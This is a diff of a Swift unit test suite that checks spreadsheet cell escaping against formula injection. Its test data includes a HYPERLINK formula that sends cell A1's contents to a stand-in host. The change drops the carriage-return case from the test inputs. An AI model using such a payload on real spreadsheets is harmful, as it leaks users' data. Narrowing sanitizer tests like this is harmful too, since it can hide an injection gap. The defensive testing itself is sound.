@@ -6,7 +6,7 @@ import Testing
 @Suite struct SpreadsheetCellTests {
   @Test(arguments: [
     ("plain words", "plain words"), ("=1+1", "'=1+1"), ("+49 30 1", "'+49 30 1"), ("-1", "'-1"), ("@home", "'@home"),
-    ("\tindented", "'\tindented"), ("\rback", "'\rback"), ("\nnext", "'\nnext"), ("'=1", "''=1"), ("''@x", "'''@x"),
+    ("\tindented", "'\tindented"), ("\nnext", "'\nnext"), ("'=1", "''=1"), ("''@x", "'''@x"),
     ("＝1+1", "'＝1+1"), ("'tis", "'tis"), ("don't = do", "don't = do"), ("", ""), ("'", "'"),
     ("=HYPERLINK(\"http://x?\"&A1,\"see\")", "'=HYPERLINK(\"http://x?\"&A1,\"see\")"),
   ])
